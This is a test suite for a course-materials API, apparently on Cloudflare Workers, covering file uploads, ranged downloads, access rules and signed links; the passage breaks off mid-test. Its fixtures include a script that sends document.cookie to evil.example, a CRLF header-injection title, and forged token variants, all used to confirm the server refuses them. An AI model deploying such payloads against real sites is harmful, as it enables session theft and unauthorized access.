import { createExecutionContext } from "cloudflare:test";
import { env, exports } from "cloudflare:workers";
import { afterEach, describe, expect, it } from "vitest";
import { createApp } from "../src/app";
import { setClock } from "../src/lib/clock";
import { DRAIN_STALL_MS } from "../src/lib/request-body";
import type { ErrorBody } from "./api-types";
import { call, makeCourse, makeMaterial, makeStep, token, uniqueName } from "./helpers";

afterEach(() => setClock(null));

const pdf = (size: number) => {
  const bytes = new Uint8Array(size);
  bytes.set(new TextEncoder().encode("%PDF-1.7\n"));
  for (let i = 9; i < size; i++) bytes[i] = (i * 31) % 251;
  return bytes;
};

async function upload(manager: string, materialId: string, bytes: Uint8Array, type: string, headers: Record<string, string> = {}) {
  return call("PUT", `/materials/${materialId}/file`, {
    token: manager,
    rawBody: bytes,
    headers: { "content-type": type, "content-length": String(bytes.byteLength), ...headers },
  });
}

async function documentMaterial() {
  const manager = await token(uniqueName("manager"), "manager");
  const course = await makeCourse(manager);
  const step = await makeStep(manager, course.id);
  const material = await makeMaterial(manager, step.id, { material_type: "Document", content: { url: "https://example.com/ext.pdf" } });
  return { manager, course, step, material };
}

/* ---------------- more helpers ---------------- */

const hex = (buffer: ArrayBuffer | Uint8Array) => [...new Uint8Array(buffer)].map((b) => b.toString(16).padStart(2, "0")).join("");
const sha256 = async (bytes: Uint8Array) => hex(await crypto.subtle.digest("SHA-256", bytes));

/** A file download as a client sees it: the raw bytes, not text. */
async function download(path: string, options: { token?: string; headers?: Record<string, string> } = {}) {
  const headers: Record<string, string> = { ...options.headers };
  if (options.token) headers.authorization = `Bearer ${options.token}`;
  const response = await exports.default.fetch(new Request(`http://api.test${path}`, { headers }));
  const bytes = new Uint8Array(await response.arrayBuffer());
  const text = new TextDecoder().decode(bytes);
  let json: Partial<ErrorBody> | undefined;
  try {
    json = JSON.parse(text);
  } catch {
    json = undefined;
  }
  return { status: response.status, headers: response.headers, bytes, text, json };
}

const fileOf = (materialId: string) => `/materials/${materialId}/file`;
const objectsOf = async (materialId: string) => (await env.FILES.list({ prefix: `materials/${materialId}/` })).objects;

/** A stream of `chunks` that does not tell the runtime its length. */
function streamOf(...chunks: Uint8Array[]) {
  return new ReadableStream<Uint8Array>({
    start(controller) {
      for (const chunk of chunks) controller.enqueue(chunk);
      controller.close();
    },
  });
}

async function enrolled(manager: string, courseId: string) {
  const pid = uniqueName("participant");
  const participant = await token(pid, "participant");
  const res = await call("POST", `/courses/${courseId}/enroll?participant_id=${pid}`, { token: manager });
  expect(res.status).toBe(200);
  return { pid, participant };
}

/** A two-step course: `open` is a document in step 1 (unlocked on enrolment), `locked` one in step 2; both have files. */
async function twoStepCourse() {
  const manager = await token(uniqueName("manager"), "manager");
  const course = await makeCourse(manager);
  const step1 = await makeStep(manager, course.id);
  const step2 = await makeStep(manager, course.id);
  const open = await makeMaterial(manager, step1.id, {
    material_type: "Document",
    title: "Open notes",
    content: { url: "https://example.com/a.pdf" },
  });
  const locked = await makeMaterial(manager, step2.id, {
    material_type: "Document",
    title: "Locked notes",
    content: { url: "https://example.com/b.pdf" },
  });
  const openBytes = pdf(3_000);
  const lockedBytes = pdf(4_000);
  expect((await upload(manager, open.id, openBytes, "application/pdf")).status).toBe(200);
  expect((await upload(manager, locked.id, lockedBytes, "application/pdf")).status).toBe(200);
  return { manager, course, step1, step2, open, locked, openBytes, lockedBytes };
}

/** A minimal MP4 head: an `ftyp` box (isom) then filler. */
const mp4 = (size: number) => {
  const bytes = new Uint8Array(size);
  bytes.set([0x00, 0x00, 0x00, 0x20, ...new TextEncoder().encode("ftypisom"), 0, 0, 2, 0, ...new TextEncoder().encode("isomiso2avc1mp41")]);
  for (let i = 32; i < size; i++) bytes[i] = (i * 7 + 3) % 256;
  return bytes;
};

const html = new TextEncoder().encode(
  "<!DOCTYPE html><html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>",
);

const b64urlDecode = (part: string) => atob(part.replace(/-/g, "+").replace(/_/g, "/") + "===".slice((part.length + 3) % 4));
const b64urlEncode = (text: string) => btoa(text).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
/** The path and query of a link the API returned on its own origin. */
const pathOf = (url: string) => {
  const parsed = new URL(url);
  expect(parsed.origin).toBe("http://api.test");
  return `${parsed.pathname}${parsed.search}`;
};
const tokenOf = (url: string) => new URL(url).searchParams.get("token")!;
/** Flips one character of a base64url string at `at` to another valid base64url character. */
const flip = (text: string, at: number) => text.slice(0, at) + (text[at] === "A" ? "B" : "A") + text.slice(at + 1);

describe("material files", () => {
  it("uploads a PDF and reads it back byte for byte", async () => {
    const { manager, material } = await documentMaterial();
    const bytes = pdf(10_000);
    const res = await upload(manager, material.id, bytes, "application/pdf");
    expect(res.status).toBe(200);
    expect(res.json.content).toMatchObject({ url: `http://api.test/materials/${material.id}/file` });
    expect(res.json.content).toMatchObject({ file: { size: 10_000, content_type: "application/pdf" } });
    const digest = await crypto.subtle.digest("SHA-256", bytes);
    expect(res.json.content).toMatchObject({
      file: { sha256: [...new Uint8Array(digest)].map((b) => b.toString(16).padStart(2, "0")).join("") },
    });
    const down = await env.FILES.list({ prefix: `materials/${material.id}/` });
    expect(down.objects).toHaveLength(1);
  });

  it("serves the uploaded bytes with safe download headers, and describes the file on the material", async () => {
    const at = new Date("2030-03-04T05:06:07.000Z");
    setClock(() => at);
    const manager = await token(uniqueName("manager"), "manager");
    const course = await makeCourse(manager);
    const step = await makeStep(manager, course.id);
    const material = await makeMaterial(manager, step.id, {
      material_type: "Document",
      title: 'Week 1: "Notes" / ../secret\r\nX-Evil: 1',
      content: { url: "https://example.com/ext.pdf" },
    });
    const bytes = pdf(10_000);
    const digest = await sha256(bytes);
    const res = await upload(manager, material.id, bytes, "application/pdf");
    expect(res.status).toBe(200);
    expect(res.json.id).toBe(material.id);
    expect(res.json.content).toEqual({
      url: `http://api.test/materials/${material.id}/file`,
      file: { size: 10_000, content_type: "application/pdf", uploaded_at: at.toISOString(), sha256: digest },
    });

    // The object's key is the server's, under the material; its stored type is the allow-listed one.
    const [object] = await objectsOf(material.id);
    expect(object!.key).toMatch(new RegExp(`^materials/${material.id}/[0-9a-f]{24}$`));
    expect(object!.size).toBe(10_000);

    const down = await download(fileOf(material.id), { token: manager });
    expect(down.status).toBe(200);
    expect(down.bytes.byteLength).toBe(10_000);
    expect(await sha256(down.bytes)).toBe(digest);
    expect(down.bytes).toEqual(bytes);
    expect(down.headers.get("content-type")).toBe("application/pdf");
    expect(down.headers.get("content-length")).toBe("10000");
    expect(down.headers.get("x-content-type-options")).toBe("nosniff");
    expect(down.headers.get("accept-ranges")).toBe("bytes");
    expect(down.headers.get("cache-control")).toContain("private");
    expect(down.headers.get("etag")).toBe(`"${digest}"`);
    const disposition = down.headers.get("content-disposition")!;
    expect(disposition).toMatch(/^inline; filename="[A-Za-z0-9._-]+\.pdf"; filename\*=UTF-8''[A-Za-z0-9%._-]+\.pdf$/);
    expect(disposition).not.toMatch(/[\r\n/\\]|X-Evil:/);

    // The step shows the same description.
    const stepView = await call("GET", `/steps/${step.id}`, { token: manager });
    expect(stepView.status).toBe(200);
    const listed = stepView.json.materials.find((m) => m.id === material.id);
    expect(listed?.content).toEqual(res.json.content);
  });

  it("names a Cyrillic download by its title (RFC 6266 filename*) and never doubles the extension", async () => {
    const { manager, step } = await documentMaterial();
    const cases: [string, string][] = [
      ["Введение", `inline; filename="Vvedenie.pdf"; filename*=UTF-8''%D0%92%D0%B2%D0%B5%D0%B4%D0%B5%D0%BD%D0%B8%D0%B5.pdf`],
      ["Введение.pdf", `inline; filename="Vvedenie.pdf"; filename*=UTF-8''%D0%92%D0%B2%D0%B5%D0%B4%D0%B5%D0%BD%D0%B8%D0%B5.pdf`],
      ["Notes.PDF", `inline; filename="Notes.pdf"; filename*=UTF-8''Notes.pdf`],
    ];
    for (const [title, expected] of cases) {
      const material = await makeMaterial(manager, step.id, {
        material_type: "Document",
        title,
        content: { url: "https://example.com/x.pdf" },
      });
      expect((await upload(manager, material.id, pdf(600), "application/pdf")).status, title).toBe(200);
      const down = await download(fileOf(material.id), { token: manager });
      expect(down.headers.get("content-disposition"), title).toBe(expected);
    }
  });

  it("sends Content-Security-Policy: sandbox with every file response (200, HEAD, 206, 304, signed link)", async () => {
    const { manager, material } = await documentMaterial();
    // A real PDF header followed by HTML: opened as a page on the API's origin, it must not run as that origin.
    const polyglot = new Uint8Array([...pdf(9).subarray(0, 9), ...html]);
    expect((await upload(manager, material.id, polyglot, "application/pdf")).status).toBe(200);
    const whole = await download(fileOf(material.id), { token: manager });
    const etag = whole.headers.get("etag")!;
    const head = await exports.default.fetch(
      new Request(`http://api.test${fileOf(material.id)}`, { method: "HEAD", headers: { authorization: `Bearer ${manager}` } }),
    );
    const ranged = await download(fileOf(material.id), { token: manager, headers: { range: "bytes=0-3" } });
    const notModified = await download(fileOf(material.id), { token: manager, headers: { "if-none-match": etag } });
    const link = await call("POST", `${fileOf(material.id)}-link`, { token: manager });
    const signed = await download(pathOf(link.json.url));
    const responses: [string, number, Headers][] = [
      ["GET", whole.status, whole.headers],
      ["HEAD", head.status, head.headers],
      ["Range", ranged.status, ranged.headers],
      ["If-None-Match", notModified.status, notModified.headers],
      ["signed link", signed.status, signed.headers],
    ];
    expect(responses.map(([name, status]) => [name, status])).toEqual([
      ["GET", 200],
      ["HEAD", 200],
      ["Range", 206],
      ["If-None-Match", 304],
      ["signed link", 200],
    ]);
    for (const [name, , headers] of responses) expect(headers.get("content-security-policy"), name).toBe("sandbox");
  });

  it("serves a declared type with parameters under its normalised type", async () => {
    const { manager, material } = await documentMaterial();
    const res = await upload(manager, material.id, pdf(500), "Application/PDF; charset=binary");
    expect(res.status).toBe(200);
    expect(res.json.content).toMatchObject({ file: { content_type: "application/pdf" } });
    const down = await download(fileOf(material.id), { token: manager });
    expect(down.headers.get("content-type")).toBe("application/pdf");
  });

  describe("Range", () => {
    async function tenThousand() {
      const { manager, material } = await documentMaterial();
      const bytes = pdf(10_000);
      expect((await upload(manager, material.id, bytes, "application/pdf")).status).toBe(200);
      return { manager, material, bytes };
    }

    it("serves the first byte, a middle slice, the last 100 bytes and an open-ended range", async () => {
      const { manager, material, bytes } = await tenThousand();
      const cases: [string, number, number][] = [
        ["bytes=0-0", 0, 0],
        ["bytes=4321-5678", 4321, 5678],
        ["bytes=-100", 9_900, 9_999],
        ["bytes=9000-", 9_000, 9_999],
        ["bytes=9990-20000", 9_990, 9_999],
      ];
      for (const [range, first, last] of cases) {
        const res = await download(fileOf(material.id), { token: manager, headers: { range } });
        expect(res.status, range).toBe(206);
        expect(res.headers.get("content-range"), range).toBe(`bytes ${first}-${last}/10000`);
        expect(res.headers.get("content-length"), range).toBe(String(last - first + 1));
        expect(res.headers.get("content-type"), range).toBe("application/pdf");
        expect(res.headers.get("etag"), range).toMatch(/^"[0-9a-f]{64}"$/);
        expect(res.bytes, range).toEqual(bytes.slice(first, last + 1));
      }
    });

    it("refuses an unsatisfiable range with 416 and the file's size", async () => {
      const { manager, material } = await tenThousand();
      for (const range of ["bytes=20000-", "bytes=10000-", "bytes=500-100", "bytes=-0"]) {
        const res = await download(fileOf(material.id), { token: manager, headers: { range } });
        expect(res.status, range).toBe(416);
        expect(res.headers.get("content-range"), range).toBe("bytes */10000");
        expect(res.json?.code, range).toBe("range_not_satisfiable");
      }
    });

    it("serves the whole file for several ranges or a range it does not understand", async () => {
      const { manager, material, bytes } = await tenThousand();
      for (const range of ["bytes=0-1,5-6", "lines=1-2"]) {
        const res = await download(fileOf(material.id), { token: manager, headers: { range } });
        expect(res.status, range).toBe(200);
        expect(res.headers.get("content-range"), range).toBeNull();
        expect(res.bytes, range).toEqual(bytes);
      }
    });
  });

  it("answers 304 with no body to a matching If-None-Match, and 200 to another tag", async () => {
    const { manager, material } = await documentMaterial();
    const bytes = pdf(2_000);
    await upload(manager, material.id, bytes, "application/pdf");
    const first = await download(fileOf(material.id), { token: manager });
    const etag = first.headers.get("etag")!;
    expect(etag).toBe(`"${await sha256(bytes)}"`);

    for (const ifNoneMatch of [etag, `W/${etag}`, `"other", ${etag}`, "*"]) {
      const res = await download(fileOf(material.id), { token: manager, headers: { "if-none-match": ifNoneMatch } });
      expect(res.status, ifNoneMatch).toBe(304);
      expect(res.bytes.byteLength, ifNoneMatch).toBe(0);
      expect(res.headers.get("etag"), ifNoneMatch).toBe(etag);
    }
    const stale = await download(fileOf(material.id), { token: manager, headers: { "if-none-match": '"not-the-tag"' } });
    expect(stale.status).toBe(200);
    expect(stale.bytes).toEqual(bytes);
  });

  describe("upload safety", () => {
    it("refuses an HTML document declared as application/pdf and stores nothing", async () => {
      const { manager, material } = await documentMaterial();
      const res = await upload(manager, material.id, html, "application/pdf");
      expect(res.status).toBe(415);
      expect(res.json.code).toBe("file_content_mismatch");
      expect(await objectsOf(material.id)).toHaveLength(0);
      expect((await download(fileOf(material.id), { token: manager })).status).toBe(404);
    });

    it("refuses a type the material does not take", async () => {
      const { manager, course } = await documentMaterial();
      const step = await makeStep(manager, course.id);
      const video = await makeMaterial(manager, step.id);
      const mp3 = new Uint8Array([...new TextEncoder().encode("ID3"), 4, 0, 0, 0, 0, 0, 10, ...new Array(100).fill(0)]);
      const res = await upload(manager, video.id, mp3, "audio/mpeg");
      expect(res.status).toBe(415);
      expect(res.json.code).toBe("unsupported_file_type");
      const asText = await upload(manager, video.id, html, "text/html");
      expect(asText.status).toBe(415);
      expect(asText.json.code).toBe("unsupported_file_type");
      expect(await objectsOf(video.id)).toHaveLength(0);
    });

    it("refuses an upload over the cap with 413 before writing anything", async () => {
      const { manager, material } = await documentMaterial();
      // The body is small; the declared length is over the 100 MB default cap, which is checked before reading.
      const res = await upload(manager, material.id, pdf(1_000), "application/pdf", { "content-length": String(100 * 1024 * 1024 + 1) });
      expect(res.status).toBe(413);
      expect(res.json.code).toBe("file_too_large");
      expect(await objectsOf(material.id)).toHaveLength(0);
      const stepView = await call("GET", `/steps/${material.step_id}`, { token: manager });
      expect(stepView.json.materials[0]?.content).toEqual({ url: "https://example.com/ext.pdf" });
    });

    /**
     * Sends 9 bytes of a body whose sender then stalls (a client with more still to send) through what
     * wrangler dev wraps every Worker in (templates/middleware/middleware-ensure-req-body-drained.ts): the
     * status, or "stalled" when no answer came within 3 s, whether the body was let go of, and when.
     */
    async function stalledSend(method: string, path: string, headers: Record<string, string>) {
      const app = createApp();
      let cancelled = false;
      const body = new ReadableStream<Uint8Array>({
        start(controller) {
          controller.enqueue(new TextEncoder().encode("%PDF-1.7\n"));
        },
        pull: () => new Promise<void>(() => {}),
        cancel() {
          cancelled = true;
        },
      });
      const request = new Request(`http://api.test${path}`, { method, body, headers });
      const ctx = createExecutionContext();
      const started = Date.now();
      const drained = (async () => {
        try {
          return await app.fetch(request, env, ctx);
        } finally {
          if (request.body !== null && !request.bodyUsed) {
            const reader = request.body.getReader();
            while (!(await reader.read()).done) {}
          }
        }
      })();
      const answer = await Promise.race([drained, new Promise<"stalled">((resolve) => setTimeout(() => resolve("stalled"), 3_000))]);
      return { status: answer === "stalled" ? "stalled" : answer.status, cancelled, ms: Date.now() - started };
    }

    it("lets go of the body it refuses: at once when declared over 16 MB, after DRAIN_STALL_MS when a smaller one stalls", async () => {
      const { manager, material } = await documentMaterial();
      // [name, material, headers, status, let go of at once]
      const cases: [string, string, Record<string, string>, number, boolean][] = [
        ["over the cap", material.id, { "content-type": "application/pdf", "content-length": String(200 * 1024 * 1024) }, 413, true],
        ["no Content-Type", material.id, { "content-length": "1000" }, 415, false],
        ["an unknown material", "0123456789abcdef01234567", { "content-type": "application/pdf", "content-length": "1000" }, 404, false],
      ];
      for (const [name, id, headers, status, atOnce] of cases) {
        const sent = await stalledSend("PUT", fileOf(id), { authorization: `Bearer ${manager}`, ...headers });
        expect(sent.status, name).toBe(status);
        expect(sent.cancelled, name).toBe(true);
        if (atOnce) expect(sent.ms, name).toBeLessThan(DRAIN_STALL_MS);
        else expect(sent.ms, name).toBeGreaterThanOrEqual(DRAIN_STALL_MS - 50);
      }
      expect(await objectsOf(material.id)).toHaveLength(0);
    });

    it("refusals made before any handler (401, JSON over 1 MB) let go of the body too", async () => {
      const { manager, material } = await documentMaterial();
      const cases: [string, string, string, Record<string, string>, number][] = [
        ["an upload without a token", "PUT", fileOf(material.id), { "content-type": "application/pdf", "content-length": "1000" }, 401],
        [
          "a JSON body declared over 1 MB",
          "POST",
          "/courses",
          { authorization: `Bearer ${manager}`, "content-type": "application/json", "content-length": String(10 * 1024 * 1024) },
          413,
        ],
      ];
      for (const [name, method, path, headers, status] of cases) {
        const sent = await stalledSend(method, path, headers);
        expect(sent.status, name).toBe(status);
        expect(sent.cancelled, name).toBe(true);
      }
    });

    it("does not count a declared length of exactly the cap as over it", async () => {
      const { manager, material } = await documentMaterial();
      // 100 MB exactly passes the cap; the body is then shorter than declared, so the upload fails as a length mismatch.
      const res = await upload(manager, material.id, pdf(1_000), "application/pdf", { "content-length": String(100 * 1024 * 1024) });
      expect(res.status).toBe(400);
      expect(res.json.code).toBe("length_mismatch");
      expect(await objectsOf(material.id)).toHaveLength(0);
    });

    it("requires Content-Length (411)", async () => {
      const { manager, material } = await documentMaterial();
      const request = new Request(`http://api.test${fileOf(material.id)}`, {
        method: "PUT",
        headers: { authorization: `Bearer ${manager}`, "content-type": "application/pdf" },
        body: streamOf(pdf(1_000)),
      });
      expect(request.headers.get("content-length")).toBeNull();
      const response = await exports.default.fetch(request);
      const json: Partial<ErrorBody> = await response.json();
      expect(response.status).toBe(411);
      expect(json.code).toBe("length_required");
      expect(await objectsOf(material.id)).toHaveLength(0);
    });

    it("requires Content-Type (415)", async () => {
      const { manager, material } = await documentMaterial();
      const bytes = pdf(1_000);
      const res = await call("PUT", fileOf(material.id), {
        token: manager,
        rawBody: bytes,
        headers: { "content-length": String(bytes.byteLength) },
      });
      expect(res.status).toBe(415);
      expect(res.json.code).toBe("unsupported_file_type");
      expect(await objectsOf(material.id)).toHaveLength(0);
    });

    it("refuses an empty body", async () => {
      const { manager, material } = await documentMaterial();
      const res = await upload(manager, material.id, new Uint8Array(0), "application/pdf");
      expect(res.status).toBe(400);
      expect(res.json.code).toBe("empty_file");
      expect(await objectsOf(material.id)).toHaveLength(0);
    });

    it("refuses files on a BookLink material (415)", async () => {
      const { manager, step } = await documentMaterial();
      const book = await makeMaterial(manager, step.id, {
        material_type: "BookLink",
        content: { url: "https://b.example", title: "Gita" },
      });
      const res = await upload(manager, book.id, pdf(1_000), "application/pdf");
      expect(res.status).toBe(415);
      expect(res.json.code).toBe("files_not_supported");
      expect(await objectsOf(book.id)).toHaveLength(0);
    });

    it("refuses a body shorter than Content-Length (400) and stores nothing", async () => {
      const { manager, material } = await documentMaterial();
      const res = await call("PUT", fileOf(material.id), {
        token: manager,
        rawBody: streamOf(pdf(1_000)),
        headers: { "content-type": "application/pdf", "content-length": "2000" },
      });
      expect(res.status).toBe(400);
      expect(res.json.code).toBe("length_mismatch");
      expect(await objectsOf(material.id)).toHaveLength(0);
      const stepView = await call("GET", `/steps/${material.step_id}`, { token: manager });
      expect(stepView.json.materials[0]?.content).not.toHaveProperty("file");
    });

    it("refuses an upload to a material that does not exist (404)", async () => {
      const manager = await token(uniqueName("manager"), "manager");
      const missing = "0123456789abcdef01234567";
      const res = await upload(manager, missing, pdf(500), "application/pdf");
      expect(res.status).toBe(404);
      expect(await objectsOf(missing)).toHaveLength(0);
    });

    it("takes a file far over the 1 MB JSON body limit (20 MB, streamed) and hashes it exactly", { timeout: 60_000 }, async () => {
      const { manager, material } = await documentMaterial();
      const MB = 1024 * 1024;
      const total = 20 * MB;
      const hash = new crypto.DigestStream("SHA-256");
      const hashWriter = hash.getWriter();
      let sent = 0;
      const body = new ReadableStream<Uint8Array>({
        async pull(controller) {
          if (sent >= total) {
            await hashWriter.close();
            controller.close();
            return;
          }
          const chunk = new Uint8Array(MB);
          for (let i = 0; i < MB; i += 4) chunk[i] = ((sent + i) / 4) & 0xff;
          chunk.fill(sent / MB, 1, 2);
          if (sent === 0) chunk.set(new TextEncoder().encode("%PDF-1.7\n"));
          sent += MB;
          await hashWriter.write(chunk);
          controller.enqueue(chunk);
        },
      });
      const res = await call("PUT", fileOf(material.id), {
        token: manager,
        rawBody: body,
        headers: { "content-type": "application/pdf", "content-length": String(total) },
      });
      expect(res.status).toBe(200);
      const expected = hex(await hash.digest);
      expect(res.json.content.file).toMatchObject({ size: total, sha256: expected });
      const [object] = await objectsOf(material.id);
      expect(object!.size).toBe(total);

      // Read it back as a stream, hashing on the way.
      const response = await exports.default.fetch(
        new Request(`http://api.test${fileOf(material.id)}`, { headers: { authorization: `Bearer ${manager}` } }),
      );
      expect(response.status).toBe(200);
      expect(response.headers.get("etag")).toBe(`"${expected}"`);
      const readBack = new crypto.DigestStream("SHA-256");
      await response.body!.pipeTo(readBack);
      expect(hex(await readBack.digest)).toBe(expected);
    });
  });

  it("replaces a file: the new bytes are served, the old object is gone", async () => {
    const { manager, material } = await documentMaterial();
    const first = pdf(1_500);
    const second = pdf(2_500).map((b, i) => (i < 9 ? b : b ^ 0x5a));
    const one = await upload(manager, material.id, first, "application/pdf");
    expect(one.status).toBe(200);
    const [oldObject] = await objectsOf(material.id);
    const two = await upload(manager, material.id, second, "application/pdf");
    expect(two.status).toBe(200);
    expect(two.json.content).toMatchObject({ file: { size: 2_500, sha256: await sha256(second) } });

    const objects = await objectsOf(material.id);
    expect(objects).toHaveLength(1);
    expect(objects[0]!.key).not.toBe(oldObject!.key);
    expect(await env.FILES.head(oldObject!.key)).toBeNull();
    const down = await download(fileOf(material.id), { token: manager });
    expect(down.bytes).toEqual(second);
    expect(down.headers.get("etag")).toBe(`"${await sha256(second)}"`);
  });

  it("keeps the current file when a replacement is refused", async () => {
    const { manager, material } = await documentMaterial();
    const bytes = pdf(1_200);
    await upload(manager, material.id, bytes, "application/pdf");
    expect((await upload(manager, material.id, html, "application/pdf")).status).toBe(415);
    expect(await objectsOf(material.id)).toHaveLength(1);
    expect((await download(fileOf(material.id), { token: manager })).bytes).toEqual(bytes);
  });

  it("removes a file: the object goes, the external URL comes back, the download is 404", async () => {
    const { manager, material, step } = await documentMaterial();
    await upload(manager, material.id, pdf(1_000), "application/pdf");
    expect(await objectsOf(material.id)).toHaveLength(1);

    const removed = await call("DELETE", fileOf(material.id), { token: manager });
    expect(removed.status).toBe(204);
    expect(removed.text).toBe("");
    expect(await objectsOf(material.id)).toHaveLength(0);
    const stepView = await call("GET", `/steps/${step.id}`, { token: manager });
    const listed = stepView.json.materials.find((m) => m.id === material.id);
    expect(listed?.content).toEqual({ url: "https://example.com/ext.pdf" });
    expect(listed?.content).not.toHaveProperty("file");

    const gone = await download(fileOf(material.id), { token: manager });
    expect(gone.status).toBe(404);
    const again = await call("DELETE", fileOf(material.id), { token: manager });
    expect(again.status).toBe(404);
  });

  it("erases an untouched material's file with the material", async () => {
    const { manager, material } = await documentMaterial();
    await upload(manager, material.id, pdf(1_000), "application/pdf");
    expect(await objectsOf(material.id)).toHaveLength(1);
    expect((await call("DELETE", `/materials/${material.id}`, { token: manager })).status).toBe(204);
    expect(await objectsOf(material.id)).toHaveLength(0);
    expect((await download(fileOf(material.id), { token: manager })).status).toBe(404);
  });

  it("archives a completed material with its file kept", async () => {
    const { manager, course, material } = await documentMaterial();
    const bytes = pdf(1_000);
    await upload(manager, material.id, bytes, "application/pdf");
    const { participant } = await enrolled(manager, course.id);
    expect((await call("POST", `/materials/${material.id}/complete`, { token: participant })).status).toBe(200);

    expect((await call("DELETE", `/materials/${material.id}`, { token: manager })).status).toBe(204);
    const objects = await objectsOf(material.id);
    expect(objects).toHaveLength(1);
    const stored = await env.FILES.get(objects[0]!.key);
    expect(new Uint8Array(await stored!.arrayBuffer())).toEqual(bytes);
    const row = await env.DB.prepare("SELECT archived_at, file_key FROM materials WHERE id = ?")
      .bind(material.id)
      .first<{ archived_at: string | null; file_key: string | null }>();
    expect(row!.archived_at).not.toBeNull();
    expect(row!.file_key).toBe(objects[0]!.key);
  });

  describe("access", () => {
    it("lets a manager and an enrolled participant with the step unlocked download", async () => {
      const { manager, course, open, openBytes } = await twoStepCourse();
      const { participant } = await enrolled(manager, course.id);
      const asManager = await download(fileOf(open.id), { token: manager });
      expect(asManager.status).toBe(200);
      expect(asManager.bytes).toEqual(openBytes);
      const asParticipant = await download(fileOf(open.id), { token: participant });
      expect(asParticipant.status).toBe(200);
      expect(asParticipant.bytes).toEqual(openBytes);
      const ranged = await download(fileOf(open.id), { token: participant, headers: { range: "bytes=10-19" } });
      expect(ranged.status).toBe(206);
      expect(ranged.bytes).toEqual(openBytes.slice(10, 20));
    });

    // docs/api-notes.md: "participants enrolled in the course whose step is unlocked (others 403 `file_forbidden`; a course
    // they cannot see → 404)". Another active course is one they can see, so it is 403, not 404.
    it("refuses a participant of another course and one not enrolled anywhere (403 file_forbidden)", async () => {
      const { open } = await twoStepCourse();
      const elsewhere = await twoStepCourse();
      const { participant: outsider } = await enrolled(elsewhere.manager, elsewhere.course.id);
      const res = await download(fileOf(open.id), { token: outsider });
      expect(res.status).toBe(403);
      expect(res.json?.code).toBe("file_forbidden");
      expect(res.bytes).not.toEqual(pdf(3_000));
      const stranger = await download(fileOf(open.id), { token: await token(uniqueName("participant"), "participant") });
      expect(stranger.status).toBe(403);
      expect(stranger.json?.code).toBe("file_forbidden");
      expect(stranger.bytes).not.toEqual(pdf(3_000));
    });

    it("refuses an enrolled participant whose step is locked (403)", async () => {
      const { manager, course, locked } = await twoStepCourse();
      const { participant } = await enrolled(manager, course.id);
      const res = await download(fileOf(locked.id), { token: participant });
      expect(res.status).toBe(403);
      expect(res.json?.code).toBe("file_forbidden");
    });

    it("requires a token (401)", async () => {
      const { open } = await twoStepCourse();
      const res = await download(fileOf(open.id));
      expect(res.status).toBe(401);
      const bad = await download(fileOf(open.id), { headers: { authorization: "Bearer not-a-jwt" } });
      expect(bad.status).toBe(401);
    });

    it("lets only managers upload or remove files (403 for participants)", async () => {
      const { manager, course, open, openBytes } = await twoStepCourse();
      const { participant } = await enrolled(manager, course.id);
      const put = await upload(participant, open.id, pdf(700), "application/pdf");
      expect(put.status).toBe(403);
      const del = await call("DELETE", fileOf(open.id), { token: participant });
      expect(del.status).toBe(403);
      const objects = await objectsOf(open.id);
      expect(objects).toHaveLength(1);
      expect((await download(fileOf(open.id), { token: manager })).bytes).toEqual(openBytes);
    });
  });

  describe("signed links", () => {
    it("gives a short-lived link that works without an Authorization header, with Range", async () => {
      const at = new Date("2031-01-01T12:00:00.000Z");
      setClock(() => at);
      const { manager, course, open, openBytes } = await twoStepCourse();
      const { participant } = await enrolled(manager, course.id);
      const link = await call("POST", `${fileOf(open.id)}-link`, { token: participant });
      expect(link.status).toBe(200);
      expect(Object.keys(link.json).sort()).toEqual(["expires_at", "url"]);
      const expires = new Date(link.json.expires_at).getTime();
      expect(expires).toBeGreaterThan(at.getTime());
      expect(expires - at.getTime()).toBeLessThanOrEqual(15 * 60_000);
      expect(link.json.url).toMatch(new RegExp(`^http://api\\.test/materials/${open.id}/file\\?token=`));

      const path = pathOf(link.json.url);
      const whole = await download(path);
      expect(whole.status).toBe(200);
      expect(whole.bytes).toEqual(openBytes);
      expect(whole.headers.get("content-type")).toBe("application/pdf");
      const ranged = await download(path, { headers: { range: "bytes=-100" } });
      expect(ranged.status).toBe(206);
      expect(ranged.headers.get("content-range")).toBe("bytes 2900-2999/3000");
      expect(ranged.bytes).toEqual(openBytes.slice(2900));

      // One second before expiry it still works; at and after expiry it does not.
      setClock(() => new Date(expires - 1_000));
      expect((await download(path)).status).toBe(200);
      setClock(() => new Date(expires));
      expect((await download(path)).status).toBe(401);
      setClock(() => new Date(at.getTime() + 16 * 60_000));
      const expired = await download(path);
      expect(expired.status).toBe(401);
      expect(expired.bytes).not.toEqual(openBytes);
    });

    it("refuses tampered tokens (401)", async () => {
      const { manager, open, locked } = await twoStepCourse();
      const link = await call("POST", `${fileOf(open.id)}-link`, { token: manager });
      expect(link.status).toBe(200);
      const original = tokenOf(link.json.url);
      const [payload, signature] = original.split(".") as [string, string];
      expect((await download(`${fileOf(open.id)}?token=${encodeURIComponent(original)}`)).status).toBe(200);

      const claims = JSON.parse(b64urlDecode(payload));
      const tampered = [
        `${payload}.${flip(signature, 5)}`, // a character of the signature
        `${payload}.${flip(signature, 20)}`,
        `${flip(payload, 3)}.${signature}`, // a character of the payload
        `${b64urlEncode(JSON.stringify({ ...claims, e: claims.e + 3600 }))}.${signature}`, // a longer expiry
        `${b64urlEncode(JSON.stringify({ ...claims, s: "someone-else" }))}.${signature}`, // another user
        `${b64urlEncode(JSON.stringify({ ...claims, m: locked.id }))}.${signature}`, // another material
        `${payload}.`,
        `${payload}`,
        `${payload}.${signature}.extra`,
        "",
        "garbage",
        `${payload}.${signature.slice(0, -4)}`,
      ];
      for (const bad of tampered) {
        const res = await download(`${fileOf(open.id)}?token=${encodeURIComponent(bad)}`);
        expect(res.status, bad).toBe(401);
      }
      const movedToB = await download(
        `${fileOf(locked.id)}?token=${encodeURIComponent(`${b64urlEncode(JSON.stringify({ ...claims, m: locked.id }))}.${signature}`)}`,
      );
      expect(movedToB.status).toBe(401);
    });

    it("refuses a link made for material A on material B (401)", async () => {
      const { manager, open, locked } = await twoStepCourse();
      const link = await call("POST", `${fileOf(open.id)}-link`, { token: manager });
      const res = await download(`${fileOf(locked.id)}?token=${encodeURIComponent(tokenOf(link.json.url))}`);
      expect(res.status).toBe(401);
    });

    it("is not an API token, and an API token is not a link", async () => {
      const { manager, open } = await twoStepCourse();
      const link = await call("POST", `${fileOf(open.id)}-link`, { token: manager });
      const linkToken = tokenOf(link.json.url);
